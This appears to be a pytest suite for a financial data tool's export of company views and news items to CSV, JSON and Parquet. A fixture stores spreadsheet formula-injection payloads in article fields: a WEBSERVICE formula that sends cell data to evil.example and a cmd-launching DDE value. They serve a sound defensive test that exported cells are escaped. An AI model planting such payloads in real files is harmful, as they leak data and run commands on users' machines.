"""Views and items as DataFrames, and as files that databases and spreadsheets read."""

import io
import json
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from click.testing import CliRunner, Result

from altlens.cli import main
from altlens.errors import BadInput, BadRange, UnknownSymbol
from altlens.frames import items_frame, views_frame
from altlens.items.article import Article
from altlens.items.base import stamp
from altlens.items.view import CompanyView
from altlens.settings import get_settings
from altlens.source_catalog import KINDS
from altlens.store.collections import ANALYSES, ASKED, ITEMS, LINKS
from altlens.store.sqlite import SqliteStore
from tests.populated_store import SYMBOLS, fill

APPLE = "0000320193"
WEBSERVICE = '=WEBSERVICE("https://evil.example/?"&A1)'
PUBLISHED = datetime(2026, 6, 1, 12, tzinfo=UTC)


@pytest.fixture(scope="module")
def filled(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SqliteStore]:
    with SqliteStore(tmp_path_factory.mktemp("export") / "store.sqlite") as store:
        fill(store)
        yield store


@pytest.fixture
def environment_of(monkeypatch: pytest.MonkeyPatch, filled: SqliteStore) -> None:
    monkeypatch.setenv("ALTLENS_STORE_URL", f"sqlite:///{filled.path}")
    get_settings(refresh=True)


def export(*arguments: str) -> Result:
    result = CliRunner().invoke(main, ["export", *arguments])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exc_info
    return result


def add_article(store: SqliteStore, title: str, publisher: str = "Daily") -> None:
    """An article about Apple, with an analysis of two events."""
    article = Article(
        kind="article",
        source="news",
        key=f"article/{abs(hash(title))}",
        title=title,
        publisher=publisher,
        companies=(APPLE,),
        event_at=PUBLISHED,
        published_at=PUBLISHED,
        available_at=PUBLISHED,
        fetched_at=PUBLISHED,
        capture="capture:1",
    )
    mention = {"company": APPLE, "symbol": "AAPL", "start": 0, "end": 5, "text": "Apple",
               "relevance": 0.75, "primary": True, "role": "subject", "why": "name"}  # fmt: skip
    event = {"start": 0, "end": 5, "text": "beats", "why": "trigger"}
    analysis = {
        "language": {"code": "en", "confidence": 1.0, "why": "declared"},
        "companies": [mention],
        "sentiment": {"label": "negative", "score": -0.5, "why": ["falls"]},
        "company_sentiment": [
            {"label": "positive", "score": 0.25, "why": [], "company": APPLE},
        ],
        "events": [{"type": "earnings", **event}, {"type": "guidance", **event}],
    }
    store.add(ITEMS, [article.document()])
    link = {"_id": f"asked/{APPLE}/{article.id}", "company": APPLE, "item": article.id,
            "kind": ASKED, "linked_at": stamp(PUBLISHED)}  # fmt: skip
    store.add(LINKS, [link])
    answer = {
        "_id": f"{article.id}@1", "item": article.id, "version": "1", "companies": [APPLE],
        "analyzed_at": stamp(PUBLISHED), "available_at": stamp(PUBLISHED), "analysis": analysis,
    }  # fmt: skip
    store.add(ANALYSES, [answer])


@pytest.fixture
def hostile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[SqliteStore]:
    """A store of two articles: one whose title and publisher are formulas, one that is plain."""
    with SqliteStore(tmp_path / "hostile.sqlite") as store:
        add_article(store, WEBSERVICE, "\t@SUM(1+9)*cmd|' /C calc'!A0")
        add_article(store, 'Apple, "beats"\nand raises')
        monkeypatch.setenv("ALTLENS_STORE_URL", f"sqlite:///{store.path}")
        get_settings(refresh=True)
        yield store


def test_a_frame_has_a_row_per_company(filled: SqliteStore) -> None:
    frame = views_frame(store=filled)
    assert tuple(frame.index) == SYMBOLS
    assert frame.loc["AAPL", "last_close"] == pytest.approx(284.30)
    assert frame.loc["AAPL", "prices_state"] == "LATE"
    assert frame["article"].sum() > 10


def test_a_frame_of_a_past_date(filled: SqliteStore) -> None:
    then = views_frame(["AAPL"], as_of=date(2026, 1, 30), store=filled)
    now = views_frame(["AAPL"], store=filled)
    assert then.loc["AAPL", "last_close"] != now.loc["AAPL", "last_close"]
    assert then.loc["AAPL", "as_of"] == pd.Timestamp("2026-01-30T23:59:59.999999Z")


def test_a_frame_has_a_row_per_item(filled: SqliteStore) -> None:
    bars = items_frame("KO", "bar", as_of=date(2026, 3, 31), store=filled)
    assert bars["session"].is_monotonic_increasing
    assert bars["session"].max() <= date(2026, 3, 31)
    assert set(bars["symbol"]) == {"KO"}
    articles = items_frame("KO", "article", store=filled)
    assert articles["title"].str.len().min() > 0
    assert articles["analysis"].notna().all()
    assert articles["sentiment_score"].dropna().between(-1, 1).all()


def test_a_frame_has_the_items_of_several_companies_or_of_all(filled: SqliteStore) -> None:
    several = items_frame(
        ["KO", "AAPL"], "bar", since="2026-03-30", until="2026-03-31", store=filled
    )
    assert several["symbol"].tolist() == ["KO", "KO", "AAPL", "AAPL"]
    assert several["available_at"].dt.strftime("%Y-%m-%d").unique().tolist() == [
        "2026-03-30",
        "2026-03-31",
    ]
    everyone = items_frame(kind="bar", since="2026-03-31", until="2026-03-31", store=filled)
    assert sorted(everyone["symbol"]) == sorted(SYMBOLS)


def test_a_frame_of_many_companies_has_flat_columns(filled: SqliteStore) -> None:
    texts = items_frame(kind="article", store=filled)
    assert len(set(texts["symbol"])) > 1
    assert not texts.map(lambda value: isinstance(value, dict)).to_numpy().any()


def test_a_period_that_ends_before_it_begins_is_an_error(filled: SqliteStore) -> None:
    with pytest.raises(BadRange, match="ends before it begins"):
        items_frame("KO", "bar", since="2026-04-01", until="2026-03-31", store=filled)


def test_unknown_symbols_and_kinds_are_errors(filled: SqliteStore) -> None:
    with pytest.raises(UnknownSymbol):
        views_frame(["NOPEQ"], store=filled)
    with pytest.raises(BadInput, match=r"no kind of item 'cake'. Kinds: .*article, bar"):
        items_frame("KO", "cake", store=filled)


@pytest.mark.usefixtures("environment_of")
def test_an_unknown_kind_names_the_kinds_without_a_traceback() -> None:
    result = export("AAPL", "--items", "nosuch")
    assert result.exit_code == 2
    assert "no kind of item 'nosuch'" in result.stderr
    assert "filing" in result.stderr
    assert "Traceback" not in result.output


@pytest.mark.usefixtures("environment_of")
def test_json_without_a_kind_is_whole_views() -> None:
    result = export("AAPL", "KO", "--format", "json")
    views = [CompanyView.model_validate(json.loads(line)) for line in result.stdout.splitlines()]
    assert [view.symbol for view in views] == ["AAPL", "KO"]


@pytest.mark.usefixtures("environment_of")
def test_csv_has_a_row_per_company() -> None:
    result = export("AAPL", "KO", "--as-of", "2026-02-27")
    frame = pd.read_csv(io.StringIO(result.stdout), index_col="symbol")
    assert list(frame.index) == ["AAPL", "KO"]
    assert set(frame["as_of"].str[:10]) == {"2026-02-27"}


@pytest.mark.parametrize("file_format", ["csv", "json", "parquet"])
@pytest.mark.usefixtures("environment_of")
def test_duckdb_reads_every_kind_in_every_format(file_format: str, tmp_path: Path) -> None:
    read = {"csv": "read_csv", "json": "read_json_auto", "parquet": "read_parquet"}[file_format]
    for kind in KINDS:
        path = tmp_path / f"{kind}.{file_format}"
        assert export("AAPL", "KO", "--items", kind, "--format", file_format, "--out",
                      str(path)).exit_code == 0  # fmt: skip
        expected = sum(len(items_frame(symbol, kind)) for symbol in ("AAPL", "KO"))
        if file_format == "json" and not expected:
            assert path.read_bytes() == b""
            continue
        columns, rows = query(f"SELECT * FROM {read}('{path}')")
        assert len(rows) == expected, kind
        assert columns[:4] == ["symbol", "company", "id", "kind"], kind


def query(sql: str) -> tuple[list[str], list[tuple[object, ...]]]:
    done = duckdb.sql(sql)
    return done.columns, done.fetchall()


def test_parquet_holds_lists_structs_and_times(hostile: SqliteStore, tmp_path: Path) -> None:
    path = tmp_path / "articles.parquet"
    export("AAPL", "--items", "article", "--format", "parquet", "--out", str(path))
    _, rows = query(
        "SELECT events, len(events), sentiment_score, sentiment_label, relevance,"
        f" analysis.sentiment.label, published_at FROM read_parquet('{path}')"
        " WHERE title LIKE 'Apple,%'"
    )
    assert rows == [
        (["earnings", "guidance"], 2, 0.25, "positive", 0.75, "negative", PUBLISHED),
    ]


def test_csv_cells_are_json_and_text_that_survives_quotes_and_lines(
    hostile: SqliteStore, tmp_path: Path
) -> None:
    path = tmp_path / "articles.csv"
    export("AAPL", "--items", "article", "--out", str(path))
    _, rows = query(
        "SELECT title, events, json_extract_string(analysis, '$.sentiment.label')"
        f" FROM read_csv('{path}', all_varchar = true) WHERE title LIKE 'Apple,%'"
    )
    assert rows == [('Apple, "beats"\nand raises', '["earnings","guidance"]', "negative")]


def test_csv_cells_never_start_a_formula(hostile: SqliteStore) -> None:
    frame = pd.read_csv(io.StringIO(export("AAPL", "--items", "article").stdout), dtype=str)
    [row] = frame[frame["title"].str.contains("WEBSERVICE")].to_dict("records")
    assert row["title"] == f"'{WEBSERVICE}"
    assert row["publisher"].startswith("'\t@SUM")
    assert set(frame["sentiment_score"]) == {"0.25"}


def test_json_lines_keep_text_as_it_is(hostile: SqliteStore) -> None:
    lines = export("AAPL", "--items", "article", "--format", "json").stdout.splitlines()
    rows = {row["title"]: row for row in map(json.loads, lines)}
    assert WEBSERVICE in rows
    assert rows[WEBSERVICE]["events"] == ["earnings", "guidance"]
    assert rows[WEBSERVICE]["published_at"] == "2026-06-01T12:00:00.000000Z"


def test_a_kind_without_items_has_a_header(hostile: SqliteStore, tmp_path: Path) -> None:
    [header] = export("AAPL", "--items", "bar").stdout.splitlines()
    assert header.startswith("symbol,company,id,kind,source,")
    path = tmp_path / "bars.parquet"
    export("AAPL", "--items", "bar", "--format", "parquet", "--out", str(path))
    described = dict(duckdb.sql(f"SELECT column_name, column_type FROM (DESCRIBE"
                                f" SELECT * FROM read_parquet('{path}'))").fetchall())  # fmt: skip
    assert described["close"] == "DOUBLE"
    assert described["session"] == "DATE"
    assert described["companies"] == "VARCHAR[]"
    assert described["available_at"] == "TIMESTAMP WITH TIME ZONE"


@pytest.mark.usefixtures("environment_of")
def test_views_in_parquet_have_lists_and_dates(tmp_path: Path) -> None:
    path = tmp_path / "views.parquet"
    export("AAPL", "KO", "--format", "parquet", "--out", str(path))
    _, rows = query(f"SELECT symbol, typeof(anomalies), prices_state FROM read_parquet('{path}')")
    assert [row[0] for row in rows] == ["AAPL", "KO"]
    assert {row[1] for row in rows} == {"VARCHAR[]"}


@pytest.mark.usefixtures("environment_of")
def test_a_file_appears_whole_or_not_at_all(tmp_path: Path) -> None:
    path = tmp_path / "views.csv"
    path.write_text("kept")
    assert export("NOPEQ", "--out", str(path)).exit_code == 2
    assert path.read_text() == "kept"
    assert export("AAPL", "--out", str(path)).exit_code == 0
    assert path.read_text().startswith("company,symbol,")
    assert list(tmp_path.iterdir()) == [path]


@pytest.mark.usefixtures("environment_of")
def test_a_folder_that_does_not_exist_is_named(tmp_path: Path) -> None:
    result = export("AAPL", "--out", str(tmp_path / "nowhere" / "views.csv"))
    assert result.exit_code == 2
    assert "nowhere does not exist" in " ".join(result.stderr.split())
